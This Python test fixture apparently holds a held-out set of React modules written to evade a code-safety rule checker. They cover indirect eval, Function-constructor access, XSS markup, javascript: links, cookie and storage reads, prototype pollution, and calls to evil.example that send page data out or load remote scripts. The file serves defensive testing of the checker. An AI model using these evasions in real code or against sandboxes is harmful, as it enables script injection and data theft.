"""A second set of JavaScript that tries to get past the code rules, written without looking at them, to see
how far they carry beyond the cases they were written with. Each is a whole module. docs/security.md has the
share that was stopped at the first run; what got through was repaired by classes since."""


def _component(body: str, jsx: str = "<p>hi</p>", imports: str = "") -> str:
    return f'import {{ useEffect, useRef, useState }} from "react";\n{imports}\nexport default function App(props) {{\n  {body}\n  return {jsx};\n}}\n'


HELD_EVASIONS: dict[str, list[str]] = {
    "reaching Function": [
        _component('[].filter.constructor("alert(1)")();'),
        _component('(() => {}).constructor.constructor("alert(1)")();'),
        _component('const { constructor: Make } = async () => {};\n  Make("return this")();'),
        _component('Object.getPrototypeOf(function* () {}).constructor("alert(1)")();'),
        _component('const F = Reflect.get(() => 1, "constr" + "uctor");\n  new F("alert(1)")();'),
        _component('"".sub.constructor.call(null, "alert(document.domain)")();'),
        _component('class Box { static open() {} }\n  Box.open["con".concat("structor")]("alert(1)")();'),
        _component(
            'const d = Object.getOwnPropertyDescriptor(Function.prototype, "constructor");\n  new d.value("alert(1)")();'
        ),
        _component('useState["constructor"]`alert\\x281\\x29```;'),
        _component('for (const key of ["constructor"]) {\n    useState[key]("alert(1)")();\n  }'),
    ],
    "eval by hand": [
        _component('(0, eval)("alert(1)");'),
        _component('globalThis?.["eval"]?.("alert(1)");'),
        _component('Reflect.apply(eval, null, ["alert(1)"]);'),
        _component('["alert(1)"].forEach(eval);'),
        _component('Promise.resolve("alert(1)").then(eval);'),
        _component('new Proxy(eval, {})("alert(1)");'),
        _component('setTimeout.bind(null, "alert(1)", 10)();'),
        _component('window.setInterval.call(window, "alert(1)", 5);'),
        _component('const later = setTimeout;\n  later(`alert(${1})`, 0);'),
        _component('const tools = new Map([["run", eval]]);\n  tools.get("run")("alert(1)");'),
    ],
    "spelled at run time": [
        _component('window[atob("ZXZhbA==")]("alert(1)");'),
        _component('window["lave".split("").reverse().join("")]("alert(1)");'),
        _component('self[String.fromCharCode(101, 118, 97, 108)]("alert(1)");'),
        _component('globalThis["evil".replace("i", "a")]("alert(1)");'),
        _component('window["e!v!a!l".replaceAll("!", "")]("alert(1)");'),
        _component('window[decodeURIComponent("%65val")]("alert(1)");'),
        _component('window[JSON.parse(\'"ev\\\\u0061l"\')]("alert(1)");'),
        _component('window["xxevalxx".slice(2, -2)]("alert(1)");'),
        _component(
            'const name = Array.from("fwbm", (c) => String.fromCharCode(c.charCodeAt(0) - 1)).join("");\n  window[name]("alert(1)");'
        ),
        _component(
            'let name = "";\n  for (const c of ["e", "v", "a", "l"]) name += c;\n  window[name]("alert(1)");'
        ),
        _component('const [a, b] = "ev,al".split(",");\n  globalThis[a + b]("alert(1)");'),
        _component('window["EVAL".toLowerCase()]("alert(1)");'),
        _component('const key = ["al", "ev"].reverse().reduce((x, y) => x + y);\n  self[key]("alert(1)");'),
    ],
    "out of the frame": [
        _component("parent.location = 'https://evil.example';"),
        _component("const { opener } = window;\n  opener?.postMessage('x', '*');"),
        _component("document.defaultView.top.postMessage('hi', '*');"),
        _component(
            "", "<button onClick={(e) => e.view.parent.postMessage('hi', '*')}>go</button>"
        ),
        _component(
            "const box = useRef(null);\n  useEffect(() => { box.current.ownerDocument.defaultView.parent.postMessage('x', '*'); });",
            "<div ref={box} />",
        ),
        _component(
            "useEffect(() => { addEventListener('message', (e) => e.source.postMessage(document.title, '*')); }, []);"
        ),
        _component("window.frames[0]?.parent.postMessage('x', '*');"),
        _component("Object.values(window).forEach((v) => v?.postMessage?.('x', '*'));"),
        _component("const up = 'par' + 'ent';\n  window[up].postMessage({ type: 'ready' }, '*');"),
        _component("window['to' + 'p'].location.replace('https://evil.example');"),
    ],
    "to the network": [
        _component("navigator['send' + 'Beacon']('https://evil.example', document.title);"),
        _component("const { fetch: ask } = globalThis;\n  ask('https://evil.example');"),
        _component("new (window['XMLHttp' + 'Request'])().open('GET', 'https://evil.example');"),
        _component("new WebSocket('wss://evil.example');"),
        _component("Reflect.construct(EventSource, ['https://evil.example']);"),
        _component("import('https://evil.example/x.js').then((m) => m.default());"),
        _component("const [Peer] = [RTCPeerConnection];\n  new Peer({ iceServers: [{ urls: 'stun:evil.example' }] });"),
        _component("", "<form action=\"https://evil.example/take\" method=\"post\"><input name=\"card\" /></form>"),
        _component("", "<meta httpEquiv=\"refresh\" content=\"0;url=https://evil.example\" />"),
        _component("", "<link rel=\"prefetch\" href=\"https://evil.example/?q=1\" />"),
        _component("new WebTransport('https://evil.example');"),
        _component("navigator.sendBeacon?.call(navigator, 'https://evil.example', '1');"),
    ],
    "markup with powers": [
        _component("", "<div dangerouslySetInnerHTML={{ __html: '<img src=x onerror=alert(1)>' }} />"),
        _component(
            "const more = { dangerouslySetInnerHTML: { __html: '<b onclick=alert(1)>x</b>' } };", "<div {...more} />"
        ),
        _component(
            "const box = useRef(null);\n  useEffect(() => { box.current.innerHTML = '<img src=x onerror=alert(1)>'; });",
            "<div ref={box} />",
        ),
        _component(
            "const box = useRef(null);\n  useEffect(() => { box.current['outer' + 'HTML'] = '<iframe src=//evil.example>'; });",
            "<div ref={box} />",
        ),
        _component("document.body.insertAdjacentHTML('beforeend', '<script>alert(1)</script>');"),
        _component("document.write('<script src=//evil.example/x.js></script>');"),
        _component("document.createRange().createContextualFragment('<script>alert(1)</script>');"),
        _component("", "<iframe srcDoc=\"<script>alert(1)</script>\" />"),
        _component("const Tag = 'scr' + 'ipt';", "<Tag>{'alert(1)'}</Tag>"),
        _component("const el = document.createElement('a');\n  el.setAttribute('onclick', 'alert(1)');"),
        _component("const kinds = { frame: 'iframe' };\n  const Kind = kinds.frame;", "<Kind src=\"https://evil.example\" />"),
        _component("document.body.setHTMLUnsafe('<b onclick=alert(1)>x</b>');"),
    ],
    "addresses that run": [
        _component("", "<a href=\"javascript:alert(1)\">x</a>"),
        _component("", "<a href={'java' + 'script:alert(1)'}>x</a>"),
        _component("", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
        _component("", "<a href={'java\\tscript:alert(1)'}>x</a>"),
        _component("", "<a href={`\\u0001javascript:alert(1)`}>x</a>"),
        _component("", "<button formAction=\"javascript:alert(1)\">x</button>"),
        _component("", "<svg><a xlinkHref=\"javascript:alert(1)\"><text>x</text></a></svg>"),
        _component("location.href = ['javascript', 'alert(1)'].join(':');"),
        _component("window.open('data:text/html,<script>alert(1)</script>');"),
        _component("const to = 'JaVaScRiPt:alert(1)';", "<a href={to}>x</a>"),
        _component("const link = { href: 'javascript:alert(1)' };", "<a {...link}>x</a>"),
    ],
    "what is stored": [
        _component("const jar = document['coo' + 'kie'];"),
        _component("const { cookie } = document;"),
        _component("Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);"),
        _component("Reflect.get(document, 'cookie');"),
        _component("cookieStore.getAll().then(console.log);"),
        _component("indexedDB.open('x');"),
        _component("const box = window['local' + 'Storage'];\n  box.getItem('token');"),
        _component("caches.open('v1').then((c) => c.keys());"),
        _component("navigator.storage.getDirectory();"),
        _component("for (const k in document) if (k === 'cookie') console.log(document[k]);"),
    ],
    "threads and modules": [
        _component("new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));"),
        _component("const { SharedWorker: S } = window;\n  new S('/x.js');"),
        _component("navigator['serviceWorker'].register('/sw.js');"),
        _component("import('data:text/javascript,alert(1)');"),
        _component("const code = new Blob(['alert(1)'], { type: 'text/javascript' });\n  import(URL.createObjectURL(code));"),
        _component("CSS.paintWorklet.addModule('https://evil.example/p.js');"),
        _component("new AudioContext().audioWorklet.addModule('https://evil.example/a.js');"),
        _component("", imports='import tool from "https://evil.example/tool.js";'),
        _component("require('child_process').execSync('id');"),
        _component("", imports='export * from "https://evil.example/all.js";'),
    ],
    "shared objects": [
        _component("Object.prototype.polluted = true;"),
        _component("({}).__proto__.toJSON = () => 'x';"),
        _component("Array.prototype.map = function () { return []; };"),
        _component("Object.defineProperty(Object.prototype, 'then', { get() { return alert; } });"),
        _component("const proto = '__pro' + 'to__';\n  ({})[proto].x = 1;"),
        _component("Object.assign(String.prototype, { trim() { return 'x'; } });"),
        _component("Object.setPrototypeOf(Object.getPrototypeOf([]), null);"),
        _component(
            "const box = useRef(null);\n  useEffect(() => { const key = Object.keys(box.current).find((k) => k.startsWith('__reactFiber')); console.log(box.current[key]); });",
            "<div ref={box} />",
        ),
        _component("Error.prepareStackTrace = (_, s) => s[0].getThis();"),
    ],
    "by way of libraries": [
        _component("_.template('<%= alert(1) %>')();", imports='import _ from "lodash";'),
        _component("t('${alert(1)}')({});", imports='import { template as t } from "lodash";'),
        _component("_.invoke(window, 'eval', 'alert(1)');", imports='import _ from "lodash";'),
        _component("_.get(window, 'document.cookie');", imports='import _ from "lodash";'),
        _component("_.get(window, ['eval'])('alert(1)');", imports='import _ from "lodash";'),
        _component("d3.json('https://evil.example');", imports='import * as d3 from "d3";'),
        _component("new THREE.FileLoader().load('https://evil.example');", imports='import * as THREE from "three";'),
        _component("", "<React.Fragment>{React.createElement('script', null, 'alert(1)')}</React.Fragment>", 'import React from "react";'),
        _component("const make = React.createElement;", "<p>{make('iframe', { src: 'https://evil.example' })}</p>", 'import React from "react";'),
    ],
    "tricks of the language": [
        _component("const it = (function* () { yield eval; })();\n  it.next().value('alert(1)');"),
        _component("function go({ run = eval } = {}) { run('alert(1)'); }\n  go();"),
        _component("(function () { arguments[0]('alert(1)'); })(eval);"),
        _component("class Kit { static run = eval; }\n  Kit.run('alert(1)');"),
        _component("try { throw eval; } catch (run) { run('alert(1)'); }"),
        _component("for (const run of [eval]) run('alert(1)');"),
        _component("window[{ toString: () => 'eval' }]('alert(1)');"),
        _component("const kit = { get run() { return eval; } };\n  kit.run('alert(1)');"),
        _component("const run = (() => eval)();\n  run('alert(1)');"),
        _component("let run = null;\n  run ??= window.eval;\n  run('alert(1)');"),
        _component("const { a: { b: run } } = { a: { b: eval } };\n  run('alert(1)');"),
        _component("const w = ((x) => x)(globalThis);\n  w.ev\\u0061l('alert(1)');"),
        _component("const [, run = eval] = [];\n  run('alert(1)');"),
        _component("switch (true) { case true: var run = self; }\n  run.eval('alert(1)');"),
    ],
}  # fmt: skip
